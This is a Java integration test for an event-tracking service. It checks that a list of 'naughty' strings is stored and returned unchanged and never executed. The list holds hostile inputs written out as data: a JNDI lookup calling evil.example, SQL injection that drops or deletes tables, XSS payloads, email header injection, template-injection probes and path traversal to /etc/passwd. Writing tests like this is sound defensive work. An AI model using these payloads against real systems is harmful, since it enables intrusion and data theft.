package dev.smoothevents.event;

import static dev.smoothevents.Api.event;
import static dev.smoothevents.Api.events;
import static dev.smoothevents.Api.items;
import static dev.smoothevents.Api.json;
import static dev.smoothevents.Api.post;
import static dev.smoothevents.Api.read;
import static dev.smoothevents.Api.record;
import static dev.smoothevents.Api.unique;
import static io.restassured.RestAssured.given;
import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.oneOf;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.smoothevents.LocalStackResource;
import dev.smoothevents.TopicReader;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.function.Function;
import java.util.stream.Collectors;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What people write, on purpose or not: it comes out as it went in, and does nothing on its way. */
@QuarkusTest
@QuarkusTestResource(LocalStackResource.class)
class NaughtyStringsTest {

    static final List<String> NAUGHTY = List.of(
            "",
            " ",
            "\t\n\r leading and trailing \n",
            "\u0001\u0002\u0007\b\u001b[31mred\u007f",
            "\u0080\u0085\u009f",
            "a\r\nBcc: x@example.org\r\n\r\nHello",
            "<!channel> <!here> <@U123> <https://evil.example|click>",
            "&amp;lt;b&amp;gt; &#0; &nbsp;",
            "<script>alert('x')</script><img src=x onerror=alert(1)>",
            "\"double\" 'single' `back` \\ / \\\\ \\u0041",
            "'; DROP TABLE issue_events; --",
            "$1 $$ ? :name %s %n %00",
            "{1,2,\"3\"} {NULL} ARRAY[]",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}} #{7*7} ${7*7} <%= 7*7 %> {actor} {#for}",
            "=1+1|' /C calc'!A0",
            "../../../etc/passwd C:\\con\\nul",
            "null",
            "undefined NaN true 0 -1 1e400",
            "[\"json\", {\"in\": \"json\"}]",
            "👨‍👩‍👧‍👦 👩🏽‍🚀 🏳️‍🌈 🇩🇪 ☺️",
            "\uD83D\uDE00\uDBFF\uDFFD",
            "\u202Etxt.exe\u202C \u2066isolated\u2069",
            "שלום עולם مرحبا بالعالم",
            "Z̷͎̓a̶̜͝l̵̰̊g̸̺̈o̷̳̽",
            "e\u0301 é \u212B Å ﬁ",
            "line\u2028paragraph\u2029next",
            "zero\u200Bwidth\u200D\u2060\uFEFF",
            "\uFFFD\uFFFE\uFFFF",
            "\u00A0\u3000\u2003",
            "日本語 한국어 中文 ไทย ᚠᛇᚻ",
            "ſıİßẞΣς",
            "x".repeat(10_000),
            "👋".repeat(5_000),
            "> quoted\n```code```\n- [ ] task | table |",
            "]](javascript:alert(1)) [a](b)",
            "-- \n.\nQUIT\n",
            "=?UTF-8?Q?no?=");

    private final String issue = unique("acme/naughty#1");

    @Test
    void inAnEventTheyComeBackUnharmedEverywhere() {
        ArrayNode batch = JsonNodeFactory.instance.arrayNode();
        for (int n = 0; n < NAUGHTY.size(); n++) {
            ObjectNode event = event(issue, "label_added");
            event.putObject("record")
                    .put("type", "label")
                    .put("id", "" + n)
                    .put("body", NAUGHTY.get(n))
                    .put("title", NAUGHTY.get(n))
                    .put("name", NAUGHTY.get(n));
            event.putObject("extra").put("name", NAUGHTY.get(n)).put(NAUGHTY.get(n), NAUGHTY.get(n));
            batch.add(event);
        }

        JsonNode answer = read(given().contentType("application/json")
                .body(batch.toString().getBytes(StandardCharsets.UTF_8))
                .post("/v1/events/batch")
                .then()
                .statusCode(200)
                .extract()
                .response());

        answer.path("results")
                .forEach(result -> assertThat(result.path("status").intValue()).isEqualTo(201));
        assertUnharmed("events", byRecord(events(issue)));
        assertUnharmed("feed", byRecord(items("/v1/feed", "issue", issue)));
        assertUnharmed(
                "topic",
                byRecord(TopicReader.read(issue, NAUGHTY.size()).stream()
                        .map(ConsumerRecord::value)
                        .map(text -> read(text))
                        .toList()));
    }

    private static Map<String, JsonNode> byRecord(List<JsonNode> events) {
        return events.stream()
                .collect(Collectors.toMap(
                        event -> event.path("record").path("id").textValue(), Function.identity()));
    }

    private static void assertUnharmed(String where, Map<String, JsonNode> events) {
        assertThat(events).as(where).hasSize(NAUGHTY.size());
        for (int n = 0; n < NAUGHTY.size(); n++) {
            JsonNode event = events.get("" + n);
            String text = NAUGHTY.get(n);
            assertThat(event.path("record").path("body").textValue()).as(where).isEqualTo(text);
            assertThat(event.path("record").path("title").textValue()).as(where).isEqualTo(text);
            assertThat(event.path("record").path("name").textValue()).as(where).isEqualTo(text);
            assertThat(event.path("extra").path("name").textValue()).as(where).isEqualTo(text);
            assertThat(event.path("extra").path(text).textValue()).as(where).isEqualTo(text);
        }
    }

    static List<String> naughty() {
        return NAUGHTY;
    }

    @ParameterizedTest
    @MethodSource("naughty")
    void asAnActorTheyAreKeptUnlessNoKeyCanBeLikeThat(String actor) {
        boolean isKey = !actor.isBlank()
                && actor.codePointCount(0, actor.length()) <= 200
                && actor.chars().noneMatch(Character::isISOControl);

        var answer = post(event(issue, "issue_closed").put("actor", actor));

        if (isKey) {
            assertThat(answer.statusCode()).isEqualTo(201);
            JsonNode item = items("/v1/feed", "issue", issue, "actor", actor).get(0);
            assertThat(item.path("actor").textValue()).isEqualTo(actor);
        } else {
            answer.then().statusCode(422).body("violations.field", hasItem("actor"));
            assertThat(events(issue)).isEmpty();
        }
    }

    @ParameterizedTest
    @MethodSource("naughty")
    void asAPersonsNameTheyAreKeptUnlessTooLong(String name) {
        String person = unique("naughty");
        boolean isTooLong = name.codePointCount(0, name.length()) > 1_000;

        var answer = given().contentType("application/json")
                .body(json("{}").put("name", name).toString().getBytes(StandardCharsets.UTF_8))
                .put("/v1/people/{key}", person);

        if (isTooLong) {
            answer.then().statusCode(422).body("violations.field", hasItem("name"));
        } else {
            answer.then().statusCode(201);
            assertThat(read(given().get("/v1/people/{key}", person))
                            .path("name")
                            .textValue())
                    .isEqualTo(name);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'record': {'type': 'label', 'id': '1', 'body': 'BAD'}",
                "'record': {'type': 'label', 'id': '1', 'title': 'BAD'}",
                "'extra': {'name': 'BAD'}",
                "'extra': {'deep': [{'er': 'BAD'}]}",
                "'extra': {'BAD': 1}",
                "'actor': 'BAD'"
            })
    void whatNobodyCanStoreIsRefused(String field) {
        for (String bad : List.of("\\u0000", "a\\ud83d", "\\ude00b", "\\ude00\\ud83d")) {
            String body = "{'issue': 'ISSUE', 'action': 'label_added', FIELD}"
                    .replace("FIELD", field)
                    .replace("BAD", bad)
                    .replace("ISSUE", issue)
                    .replace('\'', '"');
            given().contentType("application/json")
                    .body(body)
                    .post("/v1/events")
                    .then()
                    .statusCode(oneOf(400, 422))
                    .contentType("application/problem+json");
        }
        assertThat(events(issue)).isEmpty();
    }

    @Test
    void nothingOfItWasRun() {
        record(event(issue, "issue_renamed").put("actor", "'; DELETE FROM issue_events; --"));

        assertThat(events(issue)).hasSize(1);
    }
}
